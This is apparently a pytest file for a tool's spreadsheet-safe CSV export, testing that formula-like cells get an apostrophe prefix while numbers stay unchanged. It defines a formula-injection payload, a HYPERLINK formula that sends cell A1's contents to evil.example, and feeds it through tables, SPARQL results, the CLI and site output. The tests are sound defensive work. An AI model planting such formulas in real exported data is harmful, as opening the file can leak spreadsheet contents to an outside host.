"""Spreadsheet-safe CSV wherever CSV is written, with numbers left as numbers (issue 12)."""

from __future__ import annotations

import csv
import io

import pyoxigraph as ox

from cocagraph.results import serialize_answer
from cocagraph.sparql import QueryAnswer
from cocagraph.tables import format_rows, spreadsheet_cell

XSD = "http://www.w3.org/2001/XMLSchema#"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_a_cell_that_could_run_is_prefixed_and_a_number_is_not():
    assert spreadsheet_cell(HOSTILE) == "'" + HOSTILE
    for text in ("+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "-"):
        assert spreadsheet_cell(text).startswith("'")
    for number in ("-18", "+3", "-1.5", "2.5e-3", "-0", "text", "", "a=b"):
        assert spreadsheet_cell(number) == number


def test_listing_csv_in_safe_mode():
    rows = [{"label": HOSTILE, "n": -18, "x": -1.5, "s": "-18"}]
    plain = list(csv.reader(io.StringIO(format_rows(rows, "csv"))))
    assert plain[1][0] == HOSTILE
    safe = list(csv.reader(io.StringIO(format_rows(rows, "csv", spreadsheet_safe=True))))
    assert safe[1] == ["'" + HOSTILE, "-18", "-1.5", "-18"]


def test_sparql_safe_csv_keeps_typed_numbers():
    answer = QueryAnswer(
        "select",
        ("n", "d", "s"),
        (
            (
                ox.Literal("-18", datatype=ox.NamedNode(XSD + "integer")),
                ox.Literal("-1.5", datatype=ox.NamedNode(XSD + "decimal")),
                ox.Literal(HOSTILE),
            ),
        ),
    )
    rows = list(csv.reader(io.StringIO(serialize_answer(answer, "csv", spreadsheet_safe=True).decode())))
    assert rows[1] == ["-18", "-1.5", "'" + HOSTILE]


def _hostile_graph(tmp_path):
    path = tmp_path / "hostile.ttl"
    path.write_text(
        "@prefix cg: <https://w3id.org/cocagraph/ns#> .\n"
        "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n"
        "<https://w3id.org/cocagraph/id/claim/evil> a cg:DescriptiveClaim ; cg:certainty cg:Asserted ;\n"
        f'  cg:explicitness cg:Stated ; rdfs:label """{HOSTILE}""" .\n',
        encoding="utf-8",
    )
    return path


def test_claims_csv_offers_the_safe_mode(run_cli, tmp_path):
    graph = _hostile_graph(tmp_path)
    plain = run_cli("claims", "--graph", str(graph), "--format", "csv")
    assert plain.code == 0, plain.err
    assert HOSTILE in [cell for row in csv.reader(io.StringIO(plain.out)) for cell in row]
    safe = run_cli("claims", "--graph", str(graph), "--format", "csv", "--spreadsheet-safe")
    assert safe.code == 0, safe.err
    cells = [cell for row in csv.reader(io.StringIO(safe.out)) for cell in row]
    assert "'" + HOSTILE in cells and HOSTILE not in cells


def test_safe_mode_is_for_csv_only(run_cli):
    result = run_cli("claims", "--format", "json", "--spreadsheet-safe")
    assert result.code == 2 and "csv" in result.err


def test_site_csv_files_are_spreadsheet_safe(run_cli, tmp_path):
    from cocagraph.loading import load
    from cocagraph.render.site import build_site

    site = build_site(load([_hostile_graph(tmp_path)]), sparql=True)
    files = dict(site.files)
    cells = [cell for row in csv.reader(io.StringIO(files["claims.csv"].decode())) for cell in row]
    assert "'" + HOSTILE in cells and HOSTILE not in cells
    for name, data in files.items():
        if name.startswith("query-") and name.endswith(".csv"):
            for row in csv.reader(io.StringIO(data.decode())):
                assert not any(cell.startswith("=") for cell in row), name
